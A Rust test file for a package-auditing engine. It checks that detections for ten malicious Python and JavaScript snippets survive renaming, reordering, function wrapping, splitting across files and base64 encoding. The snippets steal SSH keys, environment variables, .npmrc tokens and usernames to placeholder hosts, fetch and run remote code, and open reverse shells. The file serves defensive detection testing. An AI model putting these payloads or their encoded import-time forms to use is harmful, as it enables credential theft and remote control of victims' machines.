//! What does not change what a program does does not change what is found in it: other names, another order of independent
//! statements, a function around it, a second file, an encoding. Inert: hosts end in `.test`.
//!
//! Documented differences: a function around the code and another file are part of a fingerprint, so there only rule and
//! level are held, and so they are for other names where a page goes by a pattern, whose text is evidence; code that is hidden
//! may raise further findings, for the hiding.

use data_encoding::BASE64;
use doorward_engine::{Audit, Lane, Setup, audit_files};
use doorward_judge::{Policy, Rules};
use doorward_model::{Level, Limits};
use std::collections::BTreeSet;

/// A program: statements that may stand in any order, and those behind them. `$A` to `$D` are names.
struct Program {
    python: bool,
    any_order: &'static [&'static str],
    rest: &'static [&'static str],
}

const PROGRAMS: [Program; 10] = [
    Program {
        python: true,
        any_order: &["import getpass", "import requests", "$A = 'https://collect.example.test/'"],
        rest: &["$B = getpass.getuser()", "requests.post($A, data={'who': $B})"],
    },
    Program {
        python: true,
        any_order: &["import urllib.request", "$A = 'https://files.example.test/next.py'", "$D = 3"],
        rest: &["$B = urllib.request.urlopen($A).read()", "exec($B)"],
    },
    Program {
        python: true,
        any_order: &["import os", "import socket", "import subprocess", "$A = ('192.0.2.7', 4444)"],
        rest: &[
            "$B = socket.socket()",
            "$B.connect($A)",
            "os.dup2($B.fileno(), 0)",
            "os.dup2($B.fileno(), 1)",
            "subprocess.call(['/bin/sh', '-i'])",
        ],
    },
    Program {
        python: true,
        any_order: &["import os", "import requests", "$A = os.path.expanduser('~')"],
        rest: &["$B = open($A + '/.ssh/id_rsa').read()", "requests.post('https://collect.example.test/', data=$B)"],
    },
    Program {
        python: true,
        any_order: &["import json", "import os", "import urllib.request"],
        rest: &["$A = json.dumps(dict(os.environ)).encode()", "urllib.request.urlopen('https://collect.example.test/', $A)"],
    },
    Program {
        python: false,
        any_order: &["const $A = require('os');", "const $B = require('https');"],
        rest: &[
            "const $C = JSON.stringify({ who: $A.userInfo().username, at: $A.hostname() });",
            "const $D = $B.request({ hostname: 'collect.example.test', method: 'POST' });",
            "$D.write($C);",
            "$D.end();",
        ],
    },
    Program {
        python: false,
        any_order: &["const $A = require('https');", "const $B = 'https://files.example.test/next.js';"],
        rest: &["$A.get($B, ($C) => $C.on('data', ($D) => eval($D.toString())));"],
    },
    Program {
        python: false,
        any_order: &["const $A = require('fs');", "const $B = require('os');", "const $C = require('axios');"],
        rest: &[
            "const $D = $A.readFileSync($B.homedir() + '/.npmrc', 'utf8');",
            "$C.post('https://collect.example.test/', { body: $D });",
        ],
    },
    Program {
        python: false,
        any_order: &["const $A = require('net');", "const $B = require('child_process');"],
        rest: &[
            "const $C = $B.spawn('/bin/sh', []);",
            "const $D = new $A.Socket();",
            "$D.connect(4444, '192.0.2.7', () => { $D.pipe($C.stdin); $C.stdout.pipe($D); });",
        ],
    },
    Program {
        python: false,
        any_order: &["const $A = require('axios');", "const $B = 'https://collect.example.test/';"],
        rest: &["$A.post($B, { all: process.env });"],
    },
];

/// Pages whose evidence is a text of the code.
const BY_PATTERN: [&str; 1] = ["code/reverse-shell"];

const NAMES: [&str; 4] = ["address", "content", "answer", "reached"];
const OTHER_NAMES: [&str; 4] = ["q7", "veryLongNameOfSomething", "_x", "helper_2"];

impl Program {
    /// The code with its free names filled in.
    fn code(&self, lines: impl Iterator<Item = &'static str>, names: [&str; 4]) -> String {
        let text: String = lines.flat_map(|line| [line, "\n"]).collect();
        let marks = ["$A", "$B", "$C", "$D"].into_iter().zip(names);
        marks.fold(text, |text, (mark, name)| text.replace(mark, name))
    }

    fn lines(&self) -> impl Iterator<Item = &'static str> {
        self.any_order.iter().chain(self.rest).copied()
    }

    fn plain(&self) -> String {
        self.code(self.lines(), NAMES)
    }

    /// The code as the body of a function of this name.
    fn function(&self, name: &str) -> String {
        let code = self.plain();
        if self.python {
            let body: String = code.lines().map(|line| format!("    {line}\n")).collect();
            return format!("def {name}():\n{body}");
        }
        format!("function {name}() {{\n{code}}}\n")
    }

    /// The code as a text that the program decodes and runs.
    fn encoded(&self) -> String {
        let text = BASE64.encode(self.plain().as_bytes());
        if self.python {
            return format!("import base64\nexec(base64.b64decode('{text}'))\n");
        }
        format!("eval(Buffer.from('{text}', 'base64').toString());\n")
    }

    /// What is found in the code as the file of a package that runs when the package is imported, and beside it another.
    fn found(&self, code: &str, beside: &str) -> BTreeSet<(String, Level, String)> {
        let manifest = r#"{"name": "some-tool", "version": "1.0.0", "main": "index.js"}"#;
        let files: &[(&str, &str)] = if self.python {
            &[("tool/__init__.py", code), ("tool/inner.py", beside)]
        } else {
            &[("package.json", manifest), ("index.js", code), ("inner.js", beside)]
        };
        let files: Vec<(&str, &[u8])> = files.iter().map(|(name, text)| (*name, text.as_bytes())).collect();
        let (limits, policy, rules) = (Limits::default(), Policy::default(), Rules::builtin());
        let spill = std::env::temp_dir();
        let audit = Audit { limits: &limits, rules: &rules, policy: &policy, yara: &[], spill: &spill };
        let mut lane = Lane::here(Setup::new(&rules, &[], &limits, false)).expect("the observers compile");
        let report = audit_files(&audit, &files, &mut lane).expect("the files are audited");
        let found = report.judgement.findings.iter().filter(|finding| finding.level >= Level::Review);
        found.map(|finding| (finding.rule.to_string(), finding.level, finding.fingerprint.to_string())).collect()
    }
}

/// Rules and levels alone.
fn ruled(found: &BTreeSet<(String, Level, String)>) -> BTreeSet<(String, Level)> {
    found.iter().map(|(rule, level, _)| (rule.clone(), *level)).collect()
}

#[test]
fn each_program_is_an_alarm() {
    for program in &PROGRAMS {
        let found = program.found(&program.plain(), "");
        assert!(found.iter().any(|(_, level, _)| *level == Level::Alarm), "{}{found:?}", program.plain());
    }
}

#[test]
fn names_and_order_change_nothing() {
    for program in &PROGRAMS {
        let found = program.found(&program.plain(), "");
        let renamed = program.code(program.lines(), OTHER_NAMES);
        let same = program.found(&renamed, "");
        assert_eq!(ruled(&same), ruled(&found), "{renamed}");
        assert!(same == found || found.iter().all(|(rule, ..)| BY_PATTERN.contains(&rule.as_str())), "{renamed}");
        let turned = program.code(program.any_order.iter().rev().chain(program.rest).copied(), NAMES);
        assert_eq!(program.found(&turned, ""), found, "{turned}");
        let mark = if program.python { "#" } else { "//" };
        let spaced: String = program.plain().lines().map(|line| format!("\n{mark} what follows\n{line}\n")).collect();
        assert_eq!(program.found(&spaced, ""), found, "{spaced}");
    }
}

#[test]
fn a_function_around_it_changes_no_level() {
    for program in &PROGRAMS {
        let found = ruled(&program.found(&program.plain(), ""));
        let end = if program.python { "\n" } else { ";\n" };
        let wrapped = format!("{}begin(){end}", program.function("begin"));
        assert_eq!(ruled(&program.found(&wrapped, "")), found, "{wrapped}");
    }
}

#[test]
fn a_second_file_changes_no_level() {
    for program in &PROGRAMS {
        let found = ruled(&program.found(&program.plain(), ""));
        let function = program.function("begin");
        let (first, second) = if program.python {
            ("from .inner import begin\nbegin()\n", function)
        } else {
            ("const { begin } = require('./inner');\nbegin();\n", format!("{function}module.exports = {{ begin }};\n"))
        };
        assert_eq!(ruled(&program.found(first, &second)), found, "{first}{second}");
    }
}

#[test]
fn an_encoding_hides_nothing() {
    for program in &PROGRAMS {
        let found = ruled(&program.found(&program.plain(), ""));
        let encoded = ruled(&program.found(&program.encoded(), ""));
        assert!(encoded.is_superset(&found), "{}{encoded:?} lacks some of {found:?}", program.plain());
    }
}
